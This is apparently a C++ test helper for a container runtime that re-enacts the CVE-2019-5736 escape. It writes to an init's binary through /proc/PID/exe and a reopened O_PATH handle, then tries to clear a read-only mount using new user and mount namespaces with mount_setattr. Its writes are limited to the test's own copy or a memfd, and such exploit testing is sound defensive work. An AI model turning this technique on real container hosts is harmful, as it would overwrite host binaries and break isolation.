// SPDX-License-Identifier: Apache-2.0
// The CVE-2019-5736 attack, for the exploit tests: a process that can see
// an init tries to write the init's binary through /proc/PID/exe, at once
// and again through an O_PATH handle reopened after the init has gone;
// where that meets a read-only mount, it tries to make the mount writable
// (outcome_of_remount) and writes once more.
//
//   exe_attacker PID COPY [--now]
//
// COPY is the binary the test made for this run. Writes are attempted
// only through a handle that leads to COPY (same device and inode) or to a
// memfd: never through one that leads anywhere else (a system file). One
// line on stdout: "target=copy|memfd|other direct=ERRNO reopen=ERRNO
// remount=...", ERRNO being an errno name, "written" when a write went
// through, or "skipped" when the handle led elsewhere; remount is "none"
// unless the reopen met EROFS, else the step that failed, or "cleared, "
// and the write's outcome. --now reopens at once instead of
// waiting for PID and stdin to end: for a target that outlives the
// attacker (its own pid 1, whose death would kill it).
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <string>

namespace {

std::string outcome_of_write(const char* path) {
  const int fd = ::open(path, O_WRONLY | O_CLOEXEC);
  if (fd < 0) return ::strerrorname_np(errno);
  // Open for writing is the breach; write a byte to prove it.
  const bool wrote = ::pwrite(fd, "X", 1, 0) == 1;
  ::close(fd);
  return wrote ? "written" : std::string("opened, ") + ::strerrorname_np(errno);
}

bool write_text(const char* path, const std::string& text) {
  const int fd = ::open(path, O_WRONLY | O_CLOEXEC);
  if (fd < 0) return false;
  const bool ok = ::write(fd, text.data(), text.size()) == static_cast<ssize_t>(text.size());
  ::close(fd);
  return ok;
}

// A read-only mount is no defence if the attacker can make it writable.
// Any process may make a user and mount namespace of its own (here with
// its ids mapped to themselves, so that the file's permissions stay as
// they were), and with that a mount_setattr(2) that clears
// MOUNT_ATTR_RDONLY; whether the kernel lets that reach the handle's
// mount is what this tries. Last: it leaves this process in the new
// namespaces.
std::string outcome_of_remount(int handle, const char* self_fd) {
  const uid_t uid = ::geteuid();
  const gid_t gid = ::getegid();
  if (::unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) return std::string("unshare ") + ::strerrorname_np(errno);
  if (!write_text("/proc/self/setgroups", "deny") ||
      !write_text("/proc/self/uid_map", std::to_string(uid) + " " + std::to_string(uid) + " 1") ||
      !write_text("/proc/self/gid_map", std::to_string(gid) + " " + std::to_string(gid) + " 1"))
    return std::string("maps ") + ::strerrorname_np(errno);
  struct {
    std::uint64_t attr_set, attr_clr, propagation, userns_fd;
  } attr{0, 0x1 /* MOUNT_ATTR_RDONLY */, 0, 0};
  if (::syscall(SYS_mount_setattr, handle, "", AT_EMPTY_PATH, &attr, sizeof attr) != 0)
    return std::string("mount_setattr ") + ::strerrorname_np(errno);
  return "cleared, " + outcome_of_write(self_fd);
}

}  // namespace

int main(int argc, char** argv) {
  const bool now = argc == 4 && std::string(argv[3]) == "--now";
  if (argc != 3 && !now) {
    std::fprintf(stderr, "usage: exe_attacker PID COPY [--now]\n");
    return 2;
  }
  const std::string exe = std::string("/proc/") + argv[1] + "/exe";
  const int handle = ::open(exe.c_str(), O_PATH | O_CLOEXEC);
  if (handle < 0) {
    std::printf("target=none direct=%s reopen=none\n", ::strerrorname_np(errno));
    return 0;
  }
  struct stat h {}, c {};
  char link[256] = {};
  const std::string self_fd = "/proc/self/fd/" + std::to_string(handle);
  if (::fstat(handle, &h) != 0 || ::stat(argv[2], &c) != 0 || ::readlink(self_fd.c_str(), link, sizeof link - 1) < 0)
    return 3;
  const char* target = h.st_dev == c.st_dev && h.st_ino == c.st_ino ? "copy"
                       : std::string(link).starts_with("/memfd:")  ? "memfd"
                                                                   : "other";
  const bool may_write = std::string(target) != "other";
  const std::string direct = may_write ? outcome_of_write(exe.c_str()) : "skipped";
  // Let the init go (the test closes its stdin), then wait for it to be
  // gone.
  const pid_t pid = std::atoi(argv[1]);
  std::printf("ready\n");
  std::fflush(stdout);
  while (!now && ::kill(pid, 0) == 0) ::usleep(1000);
  // And until the test says everything it started from the binary is gone
  // (stdin closes): a process still running it keeps it busy (ETXTBSY),
  // which is no protection; the original attack waited for exactly this.
  char byte;
  while (!now && ::read(0, &byte, 1) > 0) {
  }
  const std::string reopen = may_write ? outcome_of_write(self_fd.c_str()) : "skipped";
  const std::string remount = may_write && reopen == "EROFS" ? outcome_of_remount(handle, self_fd.c_str()) : "none";
  std::printf("target=%s direct=%s reopen=%s remount=%s\n", target, direct.c_str(), reopen.c_str(), remount.c_str());
  return 0;
}
